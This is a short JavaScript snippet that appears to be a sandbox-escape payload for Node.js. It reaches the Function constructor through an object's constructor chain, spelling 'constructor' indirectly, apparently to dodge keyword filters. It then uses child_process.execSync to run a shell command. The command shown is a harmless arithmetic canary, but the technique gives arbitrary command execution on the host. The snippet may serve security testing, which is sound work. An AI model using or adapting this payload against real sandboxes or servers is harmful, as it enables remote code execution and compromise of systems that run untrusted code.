const k=['constructor'].map(String)[0]; const o=Object.fromEntries([['a',1]]);
(o[k])[k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
